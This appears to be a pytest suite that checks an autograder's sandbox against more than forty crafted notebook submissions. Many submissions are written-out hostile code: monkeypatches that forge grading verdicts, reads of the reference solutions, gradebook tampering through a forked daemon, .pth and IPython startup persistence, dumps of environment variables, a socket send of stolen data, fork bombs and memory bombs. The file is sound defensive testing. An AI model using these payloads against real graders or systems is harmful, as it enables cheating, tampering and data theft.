"""Grading under attack: hostile, broken and honest submissions of a02 graded in one batch.

Each submission is what a student could hand in: the released notebook (nothing answered) or
the reference answers, plus an attack in a cell, an answer or the notebook's structure. One
`autograder grade` run grades them all, with honest controls among them (a victim is graded
last, after every attack). Asserted for each: the exact auto-graded score; for all: every
student graded (no crash, no hang), a rerun changes nothing, nothing outside the sandboxes was
written, no process outlived grading, and the feedback carries no hidden test, no grader
secret, no temporary path and no flood.
"""
from __future__ import annotations

import copy
import hashlib
import json
import os
import re
import shutil
import socket
import sys
import threading
from pathlib import Path

import nbformat
import pytest

from autograder.course import Course
from autograder.course.notebook import exercise_of
from autograder.judge.bubblewrap import UID_BASE

from autograder_support import autograder, table

pytestmark = [pytest.mark.xdist_group("autograder"), pytest.mark.slow]

REPO = Path(__file__).resolve().parents[1]
ASSIGNMENT = NOTEBOOK = "a02_broadcasting"
SECRET = "grader-secret-6c1f0e"  # in the grader's environment; must never reach a student's page


def source() -> dict:
    return json.loads((REPO / "assignments" / "source" / ASSIGNMENT / f"{NOTEBOOK}.ipynb").read_text())


def nbgrader(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def index_of(nb: dict, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb["cells"]) if nbgrader(c).get("grade_id") == grade_id)


def code(text: str) -> dict:
    return {"cell_type": "code", "metadata": {}, "source": text, "outputs": [], "execution_count": None}


def with_cell(nb: dict, text: str, after: str | None = None) -> dict:
    """A copy of `nb` with a code cell inserted after the cell `after` (default: the import cell)."""
    nb = copy.deepcopy(nb)
    at = index_of(nb, after) + 1 if after else 2
    nb["cells"].insert(at, code(text))
    return nb


def with_answer(nb: dict, grade_id: str, text: str) -> dict:
    nb = copy.deepcopy(nb)
    nb["cells"][index_of(nb, grade_id)]["source"] = text
    return nb


def answer_of(nb: dict, grade_id: str) -> str:
    source = nb["cells"][index_of(nb, grade_id)]["source"]
    return "".join(source) if isinstance(source, list) else source


def points() -> dict[str, float]:
    """Auto-graded points per exercise, in notebook order."""
    out: dict[str, float] = {}
    for cell in source()["cells"]:
        meta = nbgrader(cell)
        if meta.get("grade") and not meta.get("solution"):
            exercise = exercise_of(meta["grade_id"])
            out[exercise] = out.get(exercise, 0) + float(meta.get("points", 0))
    return out


POINTS = points()
FULL = sum(POINTS.values())


def mul_with(body: str) -> str:
    """Mul whose backward runs `body` first, then answers correctly."""
    lines = "".join(f"        {line}\n" for line in body.split("\n"))
    return ("class Mul(Function):\n    def forward(self, x, y):\n        return x * y\n\n"
            "    def backward(self, grad):\n" + lines +
            "        x, y = self.inputs\n"
            "        return unbroadcast(grad * y, x.shape), unbroadcast(grad * x, y.shape)\n")


def submissions(course: Course, released: dict, listener_port: int) -> dict[str, tuple[dict | str, float]]:
    """student -> (notebook, expected auto-graded score)."""
    ref, empty = source(), released
    course_root, repo = str(course.root), str(REPO)
    above_pow = sum(p for e, p in POINTS.items() if list(POINTS).index(e) <= list(POINTS).index("a02-pow-scalar"))
    s: dict[str, tuple[dict | str, float]] = {}

    # -- controls ---------------------------------------------------------------------------------
    s["alice"] = (ref, FULL)
    s["frank"] = (empty, 0)
    s["pat"] = (with_answer(ref, "a02-mul", mul_with("return grad, grad")), FULL - POINTS["a02-mul"])

    # -- the verdict forged from inside the student's process -------------------------------------
    s["atk-patch-catalogue"] = (with_cell(empty, "import autograder.judge.catalogue as h\n"
                                                 "h.graded = lambda *a, **k: (lambda run: None)"), 0)
    s["atk-patch-numpy"] = (with_cell(empty, "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
                                             "np.testing.assert_allclose = lambda *a, **k: None"), 0)
    s["atk-input-transformer"] = (with_cell(empty, "get_ipython().input_transformers_cleanup.append("
                                                   "lambda lines: ['pass\\n'])"), 0)
    s["atk-pre-run-hook"] = (with_cell(empty, "get_ipython().events.register('pre_run_cell', lambda *a: None)"), 0)
    s["atk-do-execute"] = (with_cell(empty, "import ipykernel.ipkernel as k\n"
                                            "k.IPythonKernel.do_execute = lambda *a, **kw: {'status': 'ok'}"), 0)
    s["atk-frame-walk"] = (with_answer(empty, "a02-mul", mul_with(
        "import inspect\n"
        "for frame in inspect.stack():\n"
        "    for value in list(frame.frame.f_locals.values()):\n"
        "        if isinstance(value, type) and value.__name__ == 'Mul' and value is not type(self):\n"
        "            return value.backward(self, grad)\n"
        "raise RuntimeError('no reference found')")), 0)
    s["atk-fake-outputs"] = (_with_fake_outputs(empty), 0)
    s["atk-extra-grade-cell"] = (_with_extra_grade_cell(empty), 0)
    s["atk-test-cells-emptied"] = (_with_test_cells(empty, "pass"), 0)
    s["atk-forged-result"] = (with_cell(empty, "import json, os\nfor p in ['result.json', '/tmp/result.json', "
                                               "'../result.json']:\n    try:\n        json.dump({'success': True, "
                                               "'score': 35}, open(p, 'w'))\n    except OSError:\n        pass\n"
                                               "os._exit(0)"), 0)

    # -- the reference reached ---------------------------------------------------------------------
    s["atk-import-solutions"] = (with_answer(empty, "a02-mul", "from solutions.ops.elementwise import Mul"), 0)
    s["atk-read-solutions"] = (with_answer(empty, "a02-mul", f"exec(open({repo!r} + '/solutions/ops/elementwise.py')"
                                                             ".read())"), 0)
    s["atk-kit-source"] = (with_answer(empty, "a02-mul", "import inspect\n"
                                                         "import coursekit.engine.ops.elementwise as E\n"
                                                         "exec(inspect.getsource(E.Mul))"), 0)
    s["atk-kit-object"] = (with_answer(empty, "a02-mul", "import coursekit.engine.ops.elementwise as E\n"
                                                         "Mul = E.Mul"), 0)

    # -- the grader's machine: files, processes, network ------------------------------------------
    s["atk-proc-cmdline"] = (with_cell(empty, "import os\nfound = []\nfor pid in os.listdir('/proc'):\n    try:\n"
                                              "        found.append(open(f'/proc/{pid}/cmdline').read())\n"
                                              "    except OSError:\n        pass\n"
                                              "assert not any('--course' in c for c in found)"), 0)
    s["atk-copy-classmate"] = (with_cell(empty, f"exec(''.join(__import__('json').load(open({course_root!r} + "
                                                f"'/submitted/alice/{ASSIGNMENT}/{NOTEBOOK}.ipynb'))['cells'][3]"
                                                "['source']))"), 0)
    s["atk-gradebook"] = (with_cell(empty, f"import sqlite3\ndb = sqlite3.connect({course_root!r} + '/gradebook.db')\n"
                                           "db.execute('update grade set auto_score = 0')\ndb.commit()"), 0)
    s["atk-daemon"] = (with_cell(empty, "import os, time, sqlite3\nif os.fork() == 0:\n    os.setsid()\n"
                                        "    if os.fork() == 0:\n        time.sleep(3)\n        try:\n"
                                        f"            sqlite3.connect({course_root!r} + '/gradebook.db').execute("
                                        "'delete from grade')\n        finally:\n            os._exit(0)\n"
                                        "    os._exit(0)"), 0)
    s["atk-plant-package"] = (with_cell(empty, "import os\nfor d in ['autograder', "
                                               f"{course_root!r} + '/release/{ASSIGNMENT}/autograder']:\n    try:\n"
                                               "        os.makedirs(d, exist_ok=True)\n"
                                               "        open(d + '/__init__.py', 'w').write('check = None')\n"
                                               "    except OSError:\n        pass"), 0)
    s["atk-pth"] = (with_cell(empty, "import site, sys\nfor d in site.getsitepackages() + [sys.prefix]:\n    try:\n"
                                     "        open(d + '/zz_attack.pth', 'w').write('import os')\n"
                                     "    except OSError:\n        pass"), 0)
    s["atk-ipython-startup"] = (with_cell(empty, "import os\nfor home in [os.path.expanduser('~'), '/root']:\n"
                                                 "    d = home + '/.ipython/profile_default/startup'\n    try:\n"
                                                 "        os.makedirs(d, exist_ok=True)\n"
                                                 "        open(d + '/00-attack.py', 'w').write('1/0')\n"
                                                 "    except OSError:\n        pass"), 0)
    s["atk-edit-checks"] = (with_cell(empty, f"for p in [{repo!r} + '/solutions/ops/elementwise.py', "
                                             f"{repo!r} + '/autograder/exercises/{ASSIGNMENT}.py']:\n    try:\n"
                                             "        open(p, 'a').write('\\nraise SystemExit\\n')\n"
                                             "    except OSError:\n        pass"), 0)
    s["atk-environment"] = (with_answer(empty, "a02-mul",
                                        mul_with("import os\nraise ValueError(str(dict(os.environ)))")), 0)
    s["atk-network"] = (with_cell(empty, f"import socket\ns = socket.create_connection(('127.0.0.1', {listener_port}), "
                                         "timeout=1)\ns.sendall(b'stolen')"), 0)
    s["atk-kill-init"] = (with_answer(ref, "a02-mul", mul_with("import os, signal\nos.kill(1, signal.SIGKILL)")),
                          FULL - POINTS["a02-mul"])

    # -- robustness: deaths, hangs, bombs, floods ---------------------------------------------------
    s["die-after-pow"] = (with_cell(ref, "import os\nos._exit(0)", after="a02-pow-scalar-hidden"), above_pow)
    s["segfault-in-mul"] = (with_answer(ref, "a02-mul", mul_with("import ctypes\nctypes.string_at(0)")),
                            FULL - POINTS["a02-mul"])
    s["memory-bomb"] = (with_answer(ref, "a02-mul", mul_with("hog = [np.ones(2**27) for _ in range(64)]")),
                        FULL - POINTS["a02-mul"])
    s["hang"] = (with_answer(ref, "a02-mul", mul_with("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                                      "while True:\n    pass")), FULL - POINTS["a02-mul"])
    # a cell that hangs is interrupted and skipped, as nbgrader would: the rest is graded
    s["hang-scratch-cell"] = (with_cell(ref, "while True:\n    pass", after="a02-mul-hidden"), FULL)
    s["hang-answer-cell"] = (with_answer(ref, "a02-mul", answer_of(ref, "a02-mul") + "\nwhile True:\n    pass\n"),
                             FULL - POINTS["a02-mul"])
    s["fork-bomb"] = (with_cell(ref, "import os, time\nfor _ in range(10000):\n    try:\n        if os.fork() == 0:\n"
                                     "            time.sleep(600)\n            os._exit(0)\n    except OSError:\n"
                                     "        break"), FULL)
    s["recursion"] = (with_answer(ref, "a02-mul", mul_with("import sys\nsys.setrecursionlimit(10**6)\n"
                                                           "def f(n):\n    return f(n + 1) + 1\nf(0)")),
                      FULL - POINTS["a02-mul"])
    s["huge-result"] = (with_answer(ref, "a02-mul", mul_with("return np.zeros(2**24), np.zeros(2**24)")),
                        FULL - POINTS["a02-mul"])
    s["huge-message"] = (with_answer(ref, "a02-mul", mul_with("raise ValueError('x' * 10**7)")),
                         FULL - POINTS["a02-mul"])
    s["stdout-flood"] = (with_cell(ref, "import sys\nfor _ in range(100):\n    sys.stdout.write('y' * 10**6)"), FULL)
    s["stored-output-flood"] = (_with_stored_output(ref, 20 * 10**6), FULL)

    # -- fairness: honest noise costs nothing --------------------------------------------------------
    s["fd2-noise"] = (with_answer(ref, "a02-mul", mul_with("import os\nos.write(2, b'a C library says hello\\n')")),
                      FULL)
    s["warnings"] = (with_cell(ref, "import warnings\nwarnings.warn('careful')\nnp.log(np.zeros(1))"), FULL)
    s["quotes-markers"] = (_with_marker_quotes(ref), FULL)

    # -- the notebook's structure damaged: the source wins -------------------------------------------
    s["struct-duplicated"] = (_damaged(ref, "duplicate"), FULL)
    s["struct-deleted"] = (_damaged(ref, "delete"), FULL)
    s["struct-retyped"] = (_damaged(ref, "retype"), FULL)
    s["struct-points"] = (_damaged(ref, "points"), FULL)
    s["struct-relabelled"] = (_damaged(ref, "relabel"), FULL)
    s["unreadable"] = ("{ not json", 0)
    s["empty-object"] = ("{}", 0)

    # -- graded last, after every attack ------------------------------------------------------------
    s["zz-victim"] = (ref, FULL)
    return s


def _with_fake_outputs(nb: dict) -> dict:
    nb = copy.deepcopy(nb)
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                                "data": {"text/plain": "35"}}]
            cell["execution_count"] = 1
    return nb


def _with_extra_grade_cell(nb: dict) -> dict:
    nb = copy.deepcopy(nb)
    cell = code("pass")
    cell["metadata"]["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 100,
                                    "grade_id": "bonus", "schema_version": 3}
    nb["cells"].insert(2, cell)
    return nb


def _with_test_cells(nb: dict, text: str) -> dict:
    nb = copy.deepcopy(nb)
    for cell in nb["cells"]:
        if nbgrader(cell).get("grade") and not nbgrader(cell).get("solution"):
            cell["source"] = text
    return nb


def _with_stored_output(nb: dict, size: int) -> dict:
    nb = copy.deepcopy(nb)
    nb["cells"][1]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "z" * size}]
    return nb


def _with_marker_quotes(nb: dict) -> dict:
    nb = with_cell(nb, "# a note: ### BEGIN HIDDEN TESTS is where nbgrader hides tests\nx_note = 1")
    nb["cells"].insert(3, {"cell_type": "markdown", "metadata": {}, "source": "Quoting `### BEGIN SOLUTION` here."})
    return nb


def _damaged(nb: dict, how: str) -> dict:
    nb = copy.deepcopy(nb)
    hidden = [i for i, c in enumerate(nb["cells"]) if "-hidden" in nbgrader(c).get("grade_id", "")]
    if how == "duplicate":
        nb["cells"].insert(hidden[0] + 1, copy.deepcopy(nb["cells"][hidden[0]]))
    elif how == "delete":
        nb["cells"] = [c for i, c in enumerate(nb["cells"]) if i not in hidden]
    elif how == "retype":
        cell = nb["cells"][hidden[2]]
        cell["cell_type"] = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)
    elif how == "points":
        for i in hidden:
            nb["cells"][i]["metadata"]["nbgrader"]["points"] = 100
    elif how == "relabel":
        nbgrader(nb["cells"][hidden[1]])["grade_id"] += "-x"
    return nb


# --------------------------------------------------------------------------------------------------

def _digest(paths: list[Path]) -> str:
    h = hashlib.sha256()
    for root in paths:
        for p in sorted(root.rglob("*")) if root.is_dir() else [root]:
            if p.is_file() and "__pycache__" not in p.parts:
                h.update(str(p).encode() + p.read_bytes())
    return h.hexdigest()


def _listing(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")} if folder.is_dir() else set()


def _orphaned_sandbox_processes() -> list[int]:
    """Sandbox processes whose grading process is gone: anything that outlived its grading.

    A sandbox runs as UID_BASE + the pid of the process that started it, so a sandbox of another
    test running at the same time (whose owner is alive) is not counted.
    """
    import time
    deadline = time.monotonic() + 5
    while True:
        found = []
        for pid in os.listdir("/proc"):
            try:
                uid = next(int(line.split()[1]) for line in Path(f"/proc/{pid}/status").read_text().splitlines()
                           if line.startswith("Uid:"))
            except (OSError, StopIteration, ValueError):
                continue
            if uid >= UID_BASE and not Path(f"/proc/{uid - UID_BASE}").exists():
                found.append(int(pid))
        if not found or time.monotonic() > deadline:
            return found
        time.sleep(0.2)


def _auto_scores(course: Course) -> dict[str, float]:
    with course.gradebook() as gb:
        return {s.student.id: sum(g.auto_score or 0 for nb in s.notebooks for g in nb.grades
                                  if not g.name.endswith("-written"))
                for s in gb.find_assignment(ASSIGNMENT).submissions}


def test_hostile_submissions_earn_nothing_honest_ones_lose_nothing(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("AUTOGRADER_SECRET", SECRET)
    root = tmp_path / "course"
    root.mkdir()
    shutil.copy(REPO / "assignments" / "nbgrader_config.py", root)
    shutil.copytree(REPO / "assignments" / "source" / ASSIGNMENT, root / "source" / ASSIGNMENT)
    course = Course.open(root)
    assert autograder(course, "release", ASSIGNMENT) == 0
    released = json.loads((course.release_dir(ASSIGNMENT) / f"{NOTEBOOK}.ipynb").read_text())

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            received.append(conn.recv(100) or b"(connected)")
            conn.close()
    thread = threading.Thread(target=listen, daemon=True)
    thread.start()

    expected = {}
    for student, (nb, score) in submissions(course, released, listener.getsockname()[1]).items():
        folder = course.submitted_dir(student, ASSIGNMENT)
        folder.mkdir(parents=True)
        (folder / f"{NOTEBOOK}.ipynb").write_text(nb if isinstance(nb, str) else json.dumps(nb))
        (folder / "timestamp.txt").write_text("2026-11-20 10:00:00.000000 UTC")
        expected[student] = score
    assert len(expected) >= 40

    protected = [REPO / "solutions", REPO / "autograder", REPO / "assignments" / "source",
                 course.source_dir(ASSIGNMENT)]
    before = _digest(protected)
    site_packages = Path(sys.prefix) / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}" / "site-packages"
    site_before, home_before = _listing(site_packages), _listing(Path.home() / ".ipython")
    course_before = _listing(course.root)

    status = autograder(course, "grade", ASSIGNMENT, "--jobs", "2", "--cell-timeout", "20")
    rows = table(capsys.readouterr().out)
    stop.set()
    assert status == 0, rows
    assert {s: rows[s][1] for s in expected} == {s: "graded" for s in expected}
    got = _auto_scores(course)
    assert {s: got[s] for s in expected} == expected

    # nothing lost on a rerun, nothing duplicated
    assert autograder(course, "grade", ASSIGNMENT) == 0
    assert {r[1] for s, r in table(capsys.readouterr().out).items() if s in expected} == {"already graded"}
    assert _auto_scores(course) == got

    # nothing outside the sandboxes was touched, nothing outlived grading, nothing left the machine
    assert _digest(protected) == before
    assert _listing(site_packages) == site_before and _listing(Path.home() / ".ipython") == home_before
    new = {p for p in _listing(course.root) - course_before
           if not p.startswith(("autograded", "submitted", ".autograder", "gradebook.db"))}
    assert new == set(), new
    assert _orphaned_sandbox_processes() == []
    assert received == []

    # feedback: the student's cells and the judge's messages; no hidden test, no secret, no flood
    assert autograder(course, "feedback", ASSIGNMENT) == 0
    for student in expected:
        page = course.feedback_dir(student, ASSIGNMENT) / f"{NOTEBOOK}.html"
        html = page.read_text()
        assert len(html) < 3_000_000, (student, len(html))
        for forbidden in ("BEGIN HIDDEN TESTS\n# judged", "judged outside the notebook", SECRET, "autograder-grade-",
                          "yyyyyyyyyy" * 100, "zzzzzzzzzz" * 100):
            assert forbidden not in html, (student, forbidden)
    victim = (course.feedback_dir("atk-environment", ASSIGNMENT) / f"{NOTEBOOK}.html").read_text()
    assert "your code raised ValueError" in victim  # the judge's message is there, the environment is not
    assert "xxxxxxxxxx" * 300 not in (course.feedback_dir("huge-message", ASSIGNMENT) / f"{NOTEBOOK}.html").read_text()
    restored = nbformat.read(course.autograded_dir("struct-deleted", ASSIGNMENT) / f"{NOTEBOOK}.ipynb", as_version=4)
    assert [nbgrader(c).get("grade_id") for c in restored.cells if nbgrader(c)] == \
        [nbgrader(c).get("grade_id") for c in source()["cells"] if nbgrader(c)]


def test_a_hung_cell_is_skipped_for_the_exercises_below_it_and_waited_on_once(tmp_path, monkeypatch):
    """nbgrader interrupts a cell at its time limit and goes on; so does the judge. A scratch cell
    that hangs costs nothing; an answer cell that hangs costs its own exercise only; either is
    run (and waited on) in one sandbox only, the exercises below it run without it."""
    import autograder.judge.submission as grading
    from autograder.judge.bubblewrap import Sandbox

    ref = source()
    source_dir = tmp_path / "source" / ASSIGNMENT
    source_dir.mkdir(parents=True)
    (source_dir / f"{NOTEBOOK}.ipynb").write_text(json.dumps(ref))
    hang = "while True:\n    pass\n"
    cases = {"scratch": (with_cell(ref, hang, after="a02-mul-hidden"), set()),
             "answer": (with_answer(ref, "a02-mul", answer_of(ref, "a02-mul") + "\n" + hang), {"a02-mul"})}
    original = grading.judge
    runs_with_the_hang: list[str] = []

    def counting(exercise, cells, **kwargs):
        runs_with_the_hang.extend(exercise for _, text in cells if text.rstrip().endswith("pass"))
        return original(exercise, cells, **kwargs)
    monkeypatch.setattr(grading, "judge", counting)
    for name, (nb, failing) in cases.items():
        runs_with_the_hang.clear()
        submitted = tmp_path / name / "submitted"
        submitted.mkdir(parents=True)
        (submitted / f"{NOTEBOOK}.ipynb").write_text(json.dumps(nb))
        result = grading.grade_submission(source_dir, submitted, tmp_path / name / "out", sandbox=Sandbox(), budget=5)
        verdicts = result["notebooks"][NOTEBOOK]
        assert {e for e, v in verdicts.items() if not v["passed"]} == failing, verdicts
        assert len(runs_with_the_hang) == 1, runs_with_the_hang
        for exercise in failing:
            assert "ran over the time limit of 5 s while running your cell a02-mul" in verdicts[exercise]["message"]
        out = nbformat.read(tmp_path / name / "out" / f"{NOTEBOOK}.ipynb", as_version=4)
        notes = [o["evalue"] for c in out.cells if c.cell_type == "code" for o in c.outputs
                 if o["ename"] != "Incorrect"]
        assert len(notes) == (0 if failing else 1) and all("interrupted and skipped" in n for n in notes), notes


def test_a_cpu_hog_graded_beside_an_honest_student_costs_them_nothing(tmp_path, capsys):
    """With --jobs 2, a submission whose every answer forks as many busy processes as it may and
    spins must not make the honest a01 graded beside it time out: each sandbox's budget runs on
    its own clock (the CPU time of its process tree, or the wall time it was not kept off the CPU)."""
    assignment = "a01_graphs"
    root = tmp_path / "course"
    root.mkdir()
    shutil.copy(REPO / "assignments" / "nbgrader_config.py", root)
    shutil.copytree(REPO / "assignments" / "source" / assignment, root / "source" / assignment)
    course = Course.open(root)
    assert autograder(course, "release", assignment) == 0
    ref = json.loads((root / "source" / assignment / f"{assignment}.ipynb").read_text())
    # every answer, when the check calls it, forks as many busy processes as it may and spins
    hog_body = ("    import os\n    for _ in range(200):\n        try:\n            if os.fork() == 0:\n"
                "                while True:\n                    pass\n        except OSError:\n            break\n"
                "    while True:\n        pass\n")
    hog = copy.deepcopy(ref)
    for cell in hog["cells"]:
        if cell["cell_type"] == "code" and nbgrader(cell).get("solution"):
            name = re.search(r"^(?:def|class) (\w+)", "".join(cell["source"]), re.M).group(1)
            cell["source"] = f"def {name}(*args, **kwargs):\n{hog_body}"
    full = sum(float(nbgrader(c).get("points", 0)) for c in ref["cells"]
               if nbgrader(c).get("grade") and not nbgrader(c).get("solution"))
    for student, nb in (("hog", hog), ("honest", ref)):
        folder = course.submitted_dir(student, assignment)
        folder.mkdir(parents=True)
        (folder / f"{assignment}.ipynb").write_text(json.dumps(nb))
        (folder / "timestamp.txt").write_text("2026-11-20 10:00:00.000000 UTC")

    # 15 s budgets (a01's heaviest exercise, backward, took 1.9 s judged alone at load 11): the hog spins
    # through all eleven in half the time 30 s budgets took, and the shorter the budget, the less room a
    # budget on the wall clock would leave the honest student.
    status = autograder(course, "grade", assignment, "--jobs", "2", "--cell-timeout", "15")
    rows = table(capsys.readouterr().out)
    assert status == 0 and rows["honest"][1] == rows["hog"][1] == "graded", rows
    with course.gradebook() as gb:
        scores = {s.student.id: sum(g.auto_score or 0 for nb in s.notebooks for g in nb.grades
                                    if not g.name.endswith("-written"))
                  for s in gb.find_assignment(assignment).submissions}
    assert scores == {"honest": full, "hog": 0}
    assert _orphaned_sandbox_processes() == []


def test_what_the_sandbox_says_it_runs_is_a_label_the_judge_sent(tmp_path):
    """A cell that writes its own "running" frame on the channel, then hangs: before, its text became
    the label of the time-out and reached the note on a skipped cell, which no scrub reads (issue 29,
    section 5: no text of the sandbox's choosing leaves through any message). Now an unknown label is
    ignored: the time-out names the cell that really hung."""
    import autograder.judge.submission as grading
    from autograder.judge.bubblewrap import Sandbox

    ref = source()
    source_dir = tmp_path / "source" / ASSIGNMENT
    source_dir.mkdir(parents=True)
    (source_dir / f"{NOTEBOOK}.ipynb").write_text(json.dumps(ref))
    first = next(i for i, c in enumerate(ref["cells"]) if c["cell_type"] == "code" and not nbgrader(c))
    marker = "FORGED-LABEL-3f9a"
    forge = ("import os, stat, sys\nimport wire\n"
             f"label = {marker!r} + ' while running your cell cell {first + 1}'\n"
             "for fd in range(3, 32):\n    try:\n        if stat.S_ISFIFO(os.fstat(fd).st_mode):\n"
             "            wire.write(fd, wire.pack({'running': label}, []))\n    except OSError:\n        pass\n"
             "while True:\n    pass\n")
    submitted = tmp_path / "submitted"
    submitted.mkdir()
    (submitted / f"{NOTEBOOK}.ipynb").write_text(json.dumps(with_cell(ref, forge, after="a02-mul-hidden")))
    result = grading.grade_submission(source_dir, submitted, tmp_path / "out", sandbox=Sandbox(), budget=5)
    messages = [v["message"] for v in result["notebooks"][NOTEBOOK].values()]
    out = nbformat.read(tmp_path / "out" / f"{NOTEBOOK}.ipynb", as_version=4)
    notes = [o["evalue"] for c in out.cells if c.cell_type == "code" for o in c.outputs]
    assert not [text for text in messages + notes if marker in text]
    assert any("interrupted and skipped" in note for note in notes)  # the forging cell hung, and was skipped
